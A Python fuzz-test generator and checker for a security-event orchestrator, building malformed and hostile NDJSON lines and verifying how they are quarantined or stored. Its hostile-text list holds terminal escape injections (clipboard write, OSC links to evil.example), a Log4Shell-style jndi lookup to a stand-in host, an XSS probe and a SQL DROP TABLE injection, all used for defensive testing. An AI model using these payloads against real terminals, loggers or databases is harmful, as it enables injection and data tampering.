"""Hostile payloads for the orchestrator's receivers, each with what must become of it — and the checker.

Every generated line is either **bad** (it must land in quarantine exactly once, with one of the reasons listed for
it) or **valid** (it must be stored exactly once, with exactly the content expected, even when that content is an
attack on a terminal: Rich markup, ANSI/OSC escapes, bidi overrides, NULs…). Expectations are written down by the
generator from how the line was built, not computed with the product's decoder, so the checker can disagree with it.

How quarantine rows are matched to lines: the orchestrator keeps ONE quarantine row per payload with refused lines,
holding the refused line count and a sample of each of the first refused lines (its reason and first bytes); every
generated payload has at most 6 lines, so every refused line is sampled. Every bad line carries a marker
``fz<case>x<line>`` near its start; a valid line's id is ``fz<case>v<line>``. Each sample (or, for a row without
samples, its raw bytes) is attributed to the first marker in it, and each row's line count must equal its samples.

Duplicate ids: **the first one wins.** A second line with an id already stored — same or different content — is a
duplicate: reported as such to the sender, not stored again, not shown again, and not quarantined (it is not
malformed; resends are normal). The checker verifies the stored content is the first one's.
"""

from __future__ import annotations

import ipaddress
import random
import re
import sqlite3
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson

from pilot_tui.model import seed_id

MARKER_RE = re.compile(rb"fz\d+[xv]\d+")

SEVERITIES = ("info", "low", "medium", "high", "critical")
EVIDENCE_LINES, EVIDENCE_CHARS = 5, 512  # the documented caps: longer evidence is cut, not rejected

HOSTILE_TEXT = [
    "[bold red]PWNED[/bold red] [link=file:///etc/passwd]click[/link]",
    "[/]unbalanced [/bold] markup [[escaped]] [red",
    "\x1b[2J\x1b[H\x1b[31mscreen cleared\x1b[0m",
    "\x1b]0;evil title\x07 \x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBwd25lZA==\x07 clipboard write",
    "\x9b31m C1 CSI \x9d0;osc\x9c",
    "bidi \u202eroot\u202c \u2066isolate\u2069 \u200bzero-width",
    "nul \x00 inside, bell \x07, backspace \x08\x08, del \x7f",
    "line\r\nbreaks\rinside\u2028and\u2029",
    "${jndi:ldap://evil/a} %s%n%x <script>alert(1)</script> '; DROP TABLE events;--",
    "emoji 🔥💀 CJK 攻撃 RTL العربية combining e\u0301\u0301\u0301",
    "\\ backslash \" quote ' apostrophe \t tab",
    "A" * 700,
]


@dataclass
class Line:
    """One NDJSON line of a payload and its fate."""

    raw: bytes
    marker: str
    """``fz<case>x<j>`` for a bad line, the event id for a valid one."""
    reasons: frozenset[str] | None = None
    """Acceptable quarantine reasons; ``None`` for a valid line."""
    expect: dict[str, Any] | None = None
    """For a valid line: the stored event, field by field."""
    hostile: bool = True
    """False for a plain valid line (no attack text in it)."""


@dataclass
class Case:
    """One generated case: payloads to send in this order (a duplicate pair needs two), what each line must become."""

    n: int
    kind: str
    payloads: list[bytes]
    lines: list[Line]
    hostile: bool = True


@dataclass
class Expectations:
    """What one orchestrator database must hold after all the cases sent to it."""

    bad: dict[str, frozenset[str]] = field(default_factory=dict)
    valid: dict[str, dict[str, Any]] = field(default_factory=dict)
    """First content seen for each id: that one must be stored."""
    duplicates: Counter[str] = field(default_factory=Counter)
    """Ids sent again (same or different content): not stored twice."""
    bad_payloads: int = 0
    """Payloads with at least one bad line: each must become exactly one quarantine row."""
    kinds: Counter[str] = field(default_factory=Counter)
    payloads: int = 0
    hostile_payloads: int = 0
    megabyte_lines: int = 0
    """Lines of 1 MB or more (refused as ``oversize``)."""

    def add(self, case: Case) -> None:
        self.kinds[case.kind] += 1
        self.megabyte_lines += sum(1 for line in case.lines if len(line.raw) >= 1_000_000)
        self.payloads += len(case.payloads)
        self.hostile_payloads += len(case.payloads) if case.hostile else 0
        self.bad_payloads += 1 if any(line.reasons is not None for line in case.lines) else 0
        for line in case.lines:
            if line.reasons is not None:
                assert line.marker not in self.bad, f"marker {line.marker} used twice"
                self.bad[line.marker] = line.reasons
            elif line.marker in self.valid:
                self.duplicates[line.marker] += 1
            else:
                assert line.expect is not None
                self.valid[line.marker] = line.expect


def dumps(obj: Any) -> bytes:
    return orjson.dumps(obj)


def nested_raw(depth: int) -> bytes:
    """JSON text nested ``depth`` levels (objects and arrays in turn); built as text, orjson won't write it."""
    opens = b"".join(b'{"k":' if i % 2 else b"[" for i in range(depth))
    closes = b"".join(b"}" if i % 2 else b"]" for i in reversed(range(depth)))
    return opens + b'"bottom"' + closes


class FuzzGen:
    """Seeded generator of cases. ``stream_safe=True`` keeps to payloads whose end the port-1000 receiver can tell
    without trusting a lying ``batch_size`` (so every byte sent is read)."""

    def __init__(self, seed: int, *, big_lines: bool = True) -> None:
        self.rng = random.Random(seed)
        self.big_lines = big_lines
        self._ip = 0

    # -- building blocks -------------------------------------------------------------------------------------

    def ip(self) -> str:
        self._ip += 1
        if self.rng.random() < 0.2:  # canonical text, as the orchestrator stores it
            return str(ipaddress.ip_address(f"2001:db8::{self._ip >> 16:x}:{self._ip & 0xffff:x}"))
        return f"10.{(self._ip >> 16) & 255}.{(self._ip >> 8) & 255}.{self._ip & 255}"

    def hostile(self, limit: int) -> str:
        text = self.rng.choice(HOSTILE_TEXT)
        if self.rng.random() < 0.5:
            text += " " + self.rng.choice(HOSTILE_TEXT)
        return text[:limit]

    def valid(self, n: int, j: int, *, hostile: bool = True, event_id: str | None = None) -> tuple[dict[str, Any], Line]:
        """A valid event (as sent) and its line; hostile text goes only where free text is allowed."""
        rng = self.rng
        ev: dict[str, Any] = {
            "source_ip": self.ip(),
            "anomaly": rng.choice(["brute_force_ssh", "web_scan", "sudo_abuse", "port.scan:tcp/syn"]),
            "severity": rng.choice(SEVERITIES),
            "schema": "pilot-tui.threat/1",
            "id": event_id or f"fz{n}v{j}",
            "sensor": f"fuzz-{n % 5}",
            "seq": rng.randrange(0, 2**53),
            "ts": rng.choice(["2026-11-25T12:00:03.125Z", "2026-11-25T12:00:03+02:00", "2026-11-25 12:00:03"]),
            "rule": "sshd",
            "count": rng.randrange(1, 10**6),
            "window_s": rng.choice([600, 0.5, 0, 10**8]),
            "user": "root",
            "log": "/var/log/auth.log",
            "evidence": ["Nov 25 12:00:01 web-1 sshd[811]: Failed password for root"],
        }
        for key in ("schema", "sensor", "seq", "ts", "rule", "count", "window_s", "user", "log", "evidence"):
            if rng.random() < 0.15:
                del ev[key]
        if hostile:
            if "evidence" in ev or rng.random() < 0.5:
                ev["evidence"] = [self.hostile(2000) for _ in range(rng.choice([1, 3, 5, 9, 40]))]
            if rng.random() < 0.5:
                ev["user"] = self.hostile(128)
            if rng.random() < 0.3:
                ev["log"] = "/var/log/" + self.hostile(1000)
        expect = dict(ev)
        if "evidence" in expect:
            expect["evidence"] = [x[:EVIDENCE_CHARS] for x in expect["evidence"][:EVIDENCE_LINES]]
        raw = dumps(ev)
        if len(raw) > 12 * 1024:  # keep valid lines under the 16 KiB line cap, extras included
            ev["evidence"] = expect["evidence"] = [x[:100] for x in expect["evidence"]]
            raw = dumps(ev)
        if rng.random() < 0.3:  # unknown keys are ignored (v1 is additive) — hostile ones and deep ones too
            key = dumps(rng.choice(["x", "extra", "__proto__", "[red]k[/]", "\x1b[1m", "batch_size"]))
            value = rng.choice([b"null", b"1e308", b'"\\u0000"', b'{"a":[1,{"b":null}]}',
                                nested_raw(rng.randrange(10, 1000))])
            raw = raw[:-1] + b"," + key + b":" + value + b"}"
        return ev, Line(raw, ev["id"], None, expect, hostile=hostile)

    def bad(self, n: int, j: int) -> Line:
        """One line with exactly one fatal defect, and the reason(s) it must be quarantined with."""
        marker = f"fz{n}x{j}"
        base: dict[str, Any] = {"fz": marker, "source_ip": self.ip(), "anomaly": "brute_force_ssh",
                                "severity": "high", "id": marker, "sensor": "fuzz-bad", "seq": 1}
        rng = self.rng
        kind = rng.choice(BAD_KINDS)
        raw, reasons = kind(self, marker, base, rng)
        return Line(raw, marker, frozenset(reasons))

    # -- cases -----------------------------------------------------------------------------------------------

    def case(self, n: int, *, stream_safe: bool = False, kinds: tuple[str, ...] | None = None) -> Case:
        rng = self.rng
        kind = rng.choice(kinds or CASE_KINDS)
        if kinds is None and rng.random() < OVERSIZE_PAYLOAD_RATE:
            kind = "oversize_payload"
        if kind == "dup_different_content":
            first_sent, first = self.valid(n, 0)
            second_sent, _ = self.valid(n, 1, event_id=first.marker)
            second = Line(dumps(second_sent), first.marker, None, second_sent)
            return Case(n, kind, [first.raw, second.raw], [first, second])
        if kind == "dup_in_one_payload":
            a_sent, a = self.valid(n, 0)
            b_sent, _ = self.valid(n, 1, event_id=a.marker)
            b = Line(dumps(b_sent), a.marker, None, b_sent)
            return Case(n, kind, [a.raw + b"\n" + b.raw], [a, b])
        if kind == "seed":
            ip = self.ip()
            obj = {"source_ip": ip, "anomaly": "brute_force_ssh", "severity": rng.choice(SEVERITIES)}
            sid = seed_id(obj["source_ip"], obj["anomaly"], obj["severity"])
            line = Line(dumps(obj), sid, None, {**obj, "id": sid}, hostile=False)
            return Case(n, kind, [line.raw] * rng.choice([1, 2]), [line], hostile=False)  # maybe resent as is
        if kind == "oversize_payload" and self.big_lines:
            lines = []
            size = 0
            j = 0
            while size <= 4 * 1024 * 1024 + 1:
                _, line = self.valid(n, j)
                lines.append(line.raw)
                size += len(line.raw) + 1
                j += 1
            marker = f"fz{n}x{j}"
            head = dumps({"fz": marker, "source_ip": "192.0.2.1", "anomaly": "x", "severity": "low"})
            payload = b"\n".join([head, *lines])
            return Case(n, kind, [payload], [Line(payload[:64], marker, frozenset({"oversize"}))])
        if kind == "blank":
            return Case(n, kind, [rng.choice([b"\n", b"   \n\n", b"\r\n\r\n", b"\t"])], [], hostile=False)
        # the common case: a payload of 1-6 lines mixing valid and bad ones
        count = rng.choice([1, 1, 1, 2, 3, 6])
        lines = []
        for j in range(count):
            if kind == "valid_only" or (kind == "mixed" and rng.random() < 0.4):
                lines.append(self.valid(n, j, hostile=rng.random() < 0.7)[1])
            else:
                lines.append(self.bad(n, j))
        if kind == "mixed" and all(line.reasons is None for line in lines):
            lines[-1] = self.bad(n, count)
        sep = b"\r\n" if rng.random() < 0.2 else b"\n"
        payload = sep.join(line.raw for line in lines)
        if rng.random() < 0.5:
            payload += b"\n"
        if not stream_safe and payload.startswith(b'{"') and rng.random() < 0.2:
            # framing that lies (or is junk); the decoder must not care — the whole payload is decoded anyway
            lie = rng.choice([b"1", b"2", b"1000000000", b"-1", b'"x"', b"null"])
            payload = b'{"batch_size":' + lie + b"," + payload[1:]
        hostile = any(line.hostile for line in lines)
        return Case(n, kind, [payload], lines, hostile=hostile)


CASE_KINDS = ("mixed",) * 10 + ("bad_only",) * 10 + ("valid_only",) * 3 + (
    "dup_different_content", "dup_different_content", "dup_in_one_payload", "seed", "blank")
"""Weights: mostly hostile payloads."""

OVERSIZE_PAYLOAD_RATE = 1 / 600
"""A payload over 4 MiB (rejected whole as ``oversize``) about once per 600 cases: each costs 4 MiB to build."""


# -- bad line builders: (gen, marker, base event, rng) -> (raw line, acceptable reasons) ----------------------------


def _truncated(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    raw = dumps({**base, "evidence": [g.hostile(300)]})
    cut = raw[: rng.randrange(len(m) + 10, len(raw) - 1)]
    try:
        cut.decode("utf-8")
    except UnicodeDecodeError:  # cut inside a multi-byte character
        return cut, {"invalid_utf8"}
    return cut, {"bad_json"}


def _malformed(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    raw = dumps(base)
    forms = [
        raw + b"}",  # trailing garbage
        raw + b" " + raw,  # two objects on one line
        raw[:-1] + b",}",  # trailing comma
        raw.replace(b'":', b"'", 1),  # broken quoting
        raw.replace(b",", b"", 1),  # missing comma
        raw.replace(b'"', b"'"),  # single quotes
        raw[:-1] + b',"c":1 // comment}',
        b"\xef\xbb\xbf" + raw,  # UTF-8 BOM
        raw[:-1] + b',"u":"\\ud800"}',  # lone surrogate escape
        raw[:-1] + b',"u":"\\x41"}',  # invalid escape
        raw[:-1] + b',"n":01}',  # leading zero
        raw[:-1] + b',"n":NaN}',
        raw[:-1] + b',"n":-Infinity}',
        raw[:-1] + b',"n":1e400}',  # infinite when read as a double
        raw[:-1] + b',"n":' + b"9" * 400 + b"}",
        b'{"fz":"' + m.encode() + b'", source_ip:1}',
        b"fz " + m.encode() + b" plain text, not JSON at all",
        raw.replace(b"{", b"[", 1),
    ]
    return rng.choice(forms), {"bad_json"}


def _deep(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    depth = rng.choice([1025, 2000, 5000])
    if rng.random() < 0.5:
        return dumps(base)[:-1] + b',"deep":' + b"[" * depth + b"]" * depth + b"}", {"bad_json"}
    field_name = rng.choice(["source_ip", "anomaly", "severity", "user", "evidence"])
    obj = {k: v for k, v in base.items() if k != field_name}  # parses, but sits where a string must be
    return dumps(obj)[:-1] + b"," + dumps(field_name) + b":" + nested_raw(rng.randrange(50, 1000)) + b"}", {
        "wrong_type"}


def _huge(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    size = rng.choice([17 * 1024, 100_000]) if not g.big_lines or rng.random() < 0.9 else 1_100_000
    if rng.random() < 0.5:
        return dumps({**base, "evidence": ["A" * size]}), {"oversize"}
    return b"fz " + m.encode() + b" " + b"x" * size, {"oversize"}


def _invalid_utf8(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    junk = rng.choice([b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xe2\x82", b"\x80", b"\xf8\x88\x80\x80\x80"])
    raw = dumps(base)
    where = rng.choice([b'"brute_force_ssh"', b'"high"', b'"fuzz-bad"'])
    return raw.replace(where, where[:1] + junk + where[1:], 1), {"invalid_utf8"}


def _nul(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    raw = dumps(base)
    choice = rng.randrange(4)
    if choice == 0:
        return raw.replace(b"brute", b"br\x00ute", 1), {"bad_json"}  # raw NUL inside a string
    if choice == 1:
        return raw[:-1] + b',\x00"a":1}', {"bad_json"}
    if choice == 2:
        return dumps({**base, "anomaly": "brute\x00force"}), {"bad_value"}  # escaped NUL where a name goes
    return dumps({**base, "source_ip": "10.0.0.1\x00"}), {"bad_ip"}


def _markup(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    markup = rng.choice(["[bold red]x[/]", "[link=http://e/]a[/link]", "[blink]", "[/]"])
    target, reason = rng.choice([("anomaly", "bad_value"), ("sensor", "bad_value"), ("rule", "bad_value"),
                                 ("source_ip", "bad_ip"), ("severity", "unknown_severity"), ("id", "bad_value")])
    if target == "severity" and len(markup) > 16:
        reason = "oversize"  # a severity is at most 16 characters; longer is refused before it is looked up
    return dumps({**base, target: markup}), {reason}


def _escapes(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    esc = rng.choice(["\x1b[31mred", "\x1b]0;t\x07", "\x1b]8;;http://e/\x1b\\x", "\x9b2J"])
    choice = rng.randrange(5)
    if choice == 0:  # a raw ESC byte inside a JSON string is a control character: not JSON
        return dumps(base).replace(b"brute", b"\x1b[31mbrute", 1), {"bad_json"}
    target, reason = [("anomaly", "bad_value"), ("sensor", "bad_value"), ("source_ip", "bad_ip"),
                      ("ts", "bad_value")][choice - 1]
    return dumps({**base, target: esc}), {reason}


def _wrong_type(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    choice = rng.randrange(14)
    if choice < 4:  # not an object at all
        return dumps([[m], m, [{"fz": m}], [None, m, 1e300]][choice]), {"not_object"}
    field_name, value = [
        ("source_ip", 3232235777), ("anomaly", ["brute"]), ("severity", 4), ("id", 12345), ("seq", "5"),
        ("seq", 1.0), ("count", True), ("window_s", "600"), ("evidence", "one line"), ("evidence", [1, 2]),
    ][choice - 4]
    return dumps({**base, field_name: value}), {"wrong_type"}


def _numbers(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    raw = dumps(base)[:-1]
    forms = [
        (b',"seq":18446744073709551616}', "wrong_type"),  # beyond 64 bits: read as a float
        (b',"seq":9007199254740993}', "bad_value"),  # above 2**53
        (b',"seq":-1}', "bad_value"),
        (b',"count":0}', "bad_value"),
        (b',"count":1e20}', "wrong_type"),
        (b',"window_s":1e308}', "bad_value"),
        (b',"window_s":-0.5}', "bad_value"),
        (b',"window_s":1.7976931348623157e308}', "bad_value"),
    ]
    tail, reason = rng.choice(forms)
    return raw.replace(b',"seq":1', b"", 1) + tail, {reason}


def _fields(g: FuzzGen, m: str, base: dict[str, Any], rng: random.Random) -> tuple[bytes, set[str]]:
    choice = rng.randrange(10)
    if choice == 0:
        obj = dict(base)
        del obj["source_ip"]
        return dumps(obj), {"missing_field"}
    if choice == 1:
        return dumps({**base, "severity": None}), {"missing_field"}
    if choice == 2:
        return dumps({**base, "anomaly": ""}), {"bad_value"}
    if choice == 3:
        return dumps({**base, "severity": "CRITICAL"}), {"unknown_severity"}
    if choice == 4:  # duplicate key: the last one counts
        return dumps(base)[:-1] + b',"severity":"apocalyptic"}', {"unknown_severity"}
    if choice == 5:
        return dumps({**base, "source_ip": "999.1.1.1"}), {"bad_ip"}
    if choice == 6:
        return dumps({**base, "schema": "evil/1"}), {"bad_value"}
    if choice == 7:
        return dumps({**base, "user": "u" * 129}), {"oversize"}
    if choice == 8:
        return dumps({**base, "ts": "yesterday"}), {"bad_value"}
    return dumps({**base, "sensor": "a/b"}), {"bad_value"}


BAD_KINDS = [_truncated, _malformed, _deep, _huge, _invalid_utf8, _nul, _markup, _escapes, _wrong_type, _numbers,
             _fields]


# --------------------------------------------------------------------------------------------------------------
# the checker


def read_quarantine_rows(db: Path) -> list[tuple[int, list[tuple[str, bytes]]]]:
    """Each quarantine row as (its refused line count, its refused lines as (reason, first bytes)); a row without
    samples (one written by hand) is one line: its reason and raw bytes."""
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=10)
    try:
        rows = conn.execute("SELECT reason, raw, lines, samples FROM quarantine ORDER BY rowid").fetchall()
    finally:
        conn.close()
    out = []
    for reason, raw, lines, samples in rows:
        if not samples:
            out.append((int(lines), [(str(reason), bytes(raw))]))
            continue
        parsed = [orjson.loads(x) for x in bytes(samples).splitlines() if x]
        out.append((int(lines), [(str(x["reason"]), str(x["raw"]).encode()) for x in parsed]))
    return out


def read_db(db: Path) -> tuple[list[tuple[str, bytes]], list[tuple[str, bytes]]]:
    """(refused lines as (reason, raw) over all quarantine rows, events as (id, body)) of an orchestrator database."""
    quarantine = [line for _, lines in read_quarantine_rows(db) for line in lines]
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=10)
    try:
        events = [(r[0], bytes(r[1])) for r in conn.execute("SELECT id, body FROM events ORDER BY rowid")]
    finally:
        conn.close()
    return quarantine, events


def check_fuzz(exp: Expectations, db: Path, shown: list[str] | None = None) -> list[str]:
    """Problems with what ``db`` holds after the cases in ``exp`` were sent to it (empty list = all as expected).

    One quarantine row per payload with bad lines, its line count matching its sampled lines; every bad line
    quarantined exactly once with an acceptable reason; nothing else quarantined; every valid id
    stored once with the first content sent for it; nothing else stored; when ``shown`` (ids the headless
    orchestrator printed) is given, each stored id shown exactly once.
    """
    problems: list[str] = []
    quarantine, events = read_db(db)
    rows = read_quarantine_rows(db)
    if len(rows) != exp.bad_payloads:
        problems.append(f"{len(rows)} quarantine rows for {exp.bad_payloads} payloads with bad lines (expected one "
                        "each)")
    for count, lines in rows:
        if count != len(lines):
            problems.append(f"quarantine row says {count} lines refused but samples {len(lines)}: {lines[:1]!r:.120}")
    seen: Counter[str] = Counter()
    for reason, raw in quarantine:
        found = MARKER_RE.search(raw)
        marker = found.group().decode() if found else ""
        if marker not in exp.bad:
            problems.append(f"quarantined although not bad ({reason}): {marker or raw[:80]!r}")
            continue
        seen[marker] += 1
        if reason not in exp.bad[marker]:
            problems.append(f"{marker}: quarantined as {reason}, expected {sorted(exp.bad[marker])}")
    for marker in exp.bad:
        if seen[marker] != 1:
            problems.append(f"{marker}: bad line quarantined {seen[marker]} times (expected once)")
    stored = Counter(i for i, _ in events)
    bodies = {i: orjson.loads(b) for i, b in events}
    for event_id, expect in exp.valid.items():
        if stored[event_id] != 1:
            problems.append(f"{event_id}: valid event stored {stored[event_id]} times (expected once)")
            continue
        body = bodies[event_id]
        diff = {k: (v, body.get(k)) for k, v in expect.items() if body.get(k) != v}
        if diff:
            problems.append(f"{event_id}: stored content differs from the first one sent: {str(diff)[:300]}")
    for event_id in set(stored) - set(exp.valid):
        problems.append(f"{event_id}: stored but never sent as a valid event")
    if shown is not None:
        for event_id, n in Counter(shown).items():
            if n != 1 or event_id not in stored:
                problems.append(f"{event_id}: shown {n} times (stored: {event_id in stored})")
        for event_id in set(stored) - set(shown):
            problems.append(f"{event_id}: stored but never shown")
    return problems
